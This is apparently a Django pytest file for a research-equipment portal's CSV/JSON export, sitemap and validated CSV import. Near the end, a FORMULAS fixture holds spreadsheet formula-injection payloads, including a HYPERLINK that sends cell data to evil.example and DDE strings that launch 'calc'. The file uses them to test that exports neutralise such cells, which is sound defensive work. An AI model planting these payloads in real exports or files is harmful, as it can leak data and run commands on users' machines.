"""Open data: CSV and JSON export, the sitemap, and the all-or-nothing CSV import."""

import csv
import io
import json
from datetime import date

import pytest
from django.core.management import CommandError, call_command

from accounts.tests.factories import MembershipFactory, OrganisationFactory, VerifiedUserFactory
from assets.models import AccessModel, Asset
from assets.opendata import COLUMNS
from assets.tests.factories import AssetFactory
from portal.models import FocalArea

pytestmark = pytest.mark.django_db


@pytest.fixture
def mif():
    host = OrganisationFactory(name="University of Liverpool", slug="university-of-liverpool")
    parent = AssetFactory(name="Materials Innovation Factory", slug="mif", host=host)
    asset = AssetFactory(
        name="Mass spectrometer",
        slug="mif-ms",
        kind=Asset.Kind.EQUIPMENT,
        host=host,
        parent=parent,
        summary="High-resolution mass spectrometry.",
        description="Run by **expert** technicians.",
        manufacturer="Thermo Fisher",
        model_number="Orbitrap",
        training_required=True,
        address="Crown Street",
        town="Liverpool",
        postcode="L7 3NY",
        latitude="53.405300",
        longitude="-2.964500",
        website="https://example.org/ms",
        enquiry_email="secret-desk@example.org",
        last_verified=date(2026, 1, 2),
        capabilities="mass spectrometry, proteomics",
    )
    asset.focal_areas.add(FocalArea.objects.get(slug="materials-chemistry"))
    asset.access_models.add(*AccessModel.objects.filter(slug__in=["open-access", "membership"]))
    AssetFactory(name="Secret draft", status=Asset.Status.DRAFT)
    return asset


def read_csv(client):
    response = client.get("/assets/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text)))


def test_csv_export_has_uniquip_columns_and_published_assets_only(client, mif):
    text, rows = read_csv(client)

    assert text.splitlines()[0].split(",")[:5] == ["ID", "Type", "Name", "Summary", "Description"]
    for uniquip in ["Related Facility ID", "Technique", "Location", "Contact URL", "Web Address"]:
        assert uniquip in rows[0]
    row = next(r for r in rows if r["ID"] == "mif-ms")
    assert row["Type"] == "equipment"
    assert row["Name"] == "Mass spectrometer"
    assert row["Related Facility ID"] == "mif"
    assert row["Technique"] == "mass spectrometry; proteomics"
    assert row["Manufacturer"] == "Thermo Fisher" and row["Model"] == "Orbitrap"
    assert row["Location"] == "Crown Street" and row["Postcode"] == "L7 3NY"
    assert row["Access Models"] == "open-access; membership"
    assert row["Contact URL"] == "http://testserver/assets/mif-ms/"
    assert row["Last Verified"] == "2026-01-02"
    assert "Secret draft" not in text
    assert "secret-desk@example.org" not in text


def test_json_export_has_the_same_columns(client, mif):
    response = client.get("/assets/export.json")

    data = json.loads(response.content)
    assert data["columns"] == COLUMNS
    names = [asset["Name"] for asset in data["assets"]]
    assert names == ["Mass spectrometer", "Materials Innovation Factory"]
    assert "secret-desk@example.org" not in response.content.decode()


def test_sitemap_lists_published_assets(client, mif):
    xml = client.get("/sitemap.xml").content.decode()

    assert "http://testserver/assets/mif-ms/" in xml
    assert "http://testserver/assets/mif/" in xml
    assert "secret-draft" not in xml


def test_export_then_import_round_trips(client, mif, tmp_path):
    text, _ = read_csv(client)
    before = text
    path = tmp_path / "assets.csv"
    path.write_text(text)
    Asset.objects.filter(slug__in=["mif", "mif-ms"]).delete()

    call_command("import_assets", str(path), "--publish", stdout=io.StringIO())

    asset = Asset.objects.get(slug="mif-ms")
    assert asset.parent.slug == "mif" and asset.status == Asset.Status.PUBLISHED
    assert sorted(asset.capabilities.values_list("name", flat=True)) == [
        "mass spectrometry",
        "proteomics",
    ]
    assert read_csv(client)[0] == before


def test_import_updates_existing_assets_matched_by_id(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Type,Name,Summary,Organisation ID,Town\n"
        "mif-ms,equipment,Mass spectrometer (upgraded),New summary.,university-of-liverpool,"
        "Liverpool\n"
        ",facility,Brand new lab,A new lab.,university-of-liverpool,Liverpool\n"
    )
    out = io.StringIO()

    call_command("import_assets", str(path), stdout=out)

    assert "1 created, 1 updated" in out.getvalue()
    mif.refresh_from_db()
    assert mif.name == "Mass spectrometer (upgraded)" and mif.summary == "New summary."
    assert Asset.objects.get(name="Brand new lab").status == Asset.Status.DRAFT


def test_import_reports_every_bad_row_by_number_and_saves_nothing(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Type,Name,Summary,Organisation ID,Focal Areas,Latitude,Training Required,"
        "Related Facility ID\n"
        "good-one,facility,Good lab,Fine.,university-of-liverpool,infection,53.4,no,\n"
        "bad one,spaceship,,Bad.,nobody,astrology,north,perhaps,missing\n"
        "good-one,facility,Twin,Dup.,university-of-liverpool,,,,\n"
    )
    err = io.StringIO()

    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_assets", str(path), stderr=err)

    errors = err.getvalue()
    for expected in [
        "Row 3: ID “bad one” may only use letters, numbers, - and _",
        "Row 3: Type: Select a valid choice. spaceship is not one of the available choices.",
        "Row 3: Name: This field is required.",
        "Row 3: Organisation ID: no organisation “nobody”",
        "Row 3: Focal Areas: unknown “astrology”",
        "Row 3: Latitude: Enter a number.",
        "Row 3: Training Required: use yes or no",
        "Row 3: Related Facility ID: no asset “missing”",
        "Row 4: ID “good-one” appears more than once",
    ]:
        assert expected in errors
    assert "Row 2" not in errors
    assert not Asset.objects.filter(slug="good-one").exists()


def test_import_needs_the_required_columns(tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text("Name,Colour\nLab,blue\n")
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_assets", str(path), stderr=err)

    assert "Row 1: missing column(s): Type, Summary, Organisation ID" in err.getvalue()


def test_import_of_a_missing_file_fails_clearly(tmp_path):
    with pytest.raises(CommandError, match="Cannot read"):
        call_command("import_assets", str(tmp_path / "nope.csv"))


@pytest.mark.parametrize("status", [Asset.Status.DRAFT, Asset.Status.ARCHIVED])
def test_exports_do_not_name_a_parent_that_is_not_published(client, mif, status):
    Asset.objects.filter(slug="mif").update(status=status)

    _, rows = read_csv(client)
    exported = client.get("/assets/export.json").json()["assets"]

    assert [row["Related Facility ID"] for row in rows] == [""]
    assert [row["Related Facility ID"] for row in exported] == [""]


def test_exports_name_a_published_parent(client, mif):
    _, rows = read_csv(client)

    assert {row["ID"]: row["Related Facility ID"] for row in rows} == {"mif": "", "mif-ms": "mif"}


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "summary": "+cmd|' /C calc'!A0",
    "manufacturer": "-2+3+cmd|' /C calc'!A0",
    "model_number": "@SUM(1+1)*cmd|' /C calc'!A0",
    "eligibility": "\t=1+1",
    "address": "\r=1+1",
}


def test_csv_export_neutralises_formulas_planted_in_any_field(client, mif):
    """The probe: a host organisation's owner renamed the organisation to a formula, and
    /assets/export.csv passed it (and =, +, -, @, tab and CR-led values) verbatim."""
    owner = VerifiedUserFactory()
    MembershipFactory(user=owner, organisation=mif.host)
    client.force_login(owner)
    renamed = client.post(
        f"/organisations/{mif.host.slug}/edit/",
        {"name": FORMULAS["name"], "kind": "university", "visibility": "public"},
    )
    assert renamed.status_code == 302, renamed.content.decode()
    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)

    text, rows = read_csv(client)

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and cell != "-2.964500"]
    row = next(r for r in rows if r["ID"] == "mif-ms")
    assert row["Organisation"] == "'" + FORMULAS["name"]
    assert row["Name"] == "'" + FORMULAS["name"]
    assert row["Model"] == "'" + FORMULAS["model_number"]
    assert row["Longitude"] == "-2.964500"  # a number stays a number


def test_neutralised_cells_import_as_they_were_written(client, mif, tmp_path):
    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)
    path = tmp_path / "assets.csv"
    path.write_text(read_csv(client)[0])
    Asset.objects.filter(slug__in=["mif", "mif-ms"]).delete()

    call_command("import_assets", str(path), "--publish", stdout=io.StringIO())

    asset = Asset.objects.get(slug="mif-ms")
    assert asset.name == FORMULAS["name"] and asset.model_number == FORMULAS["model_number"]
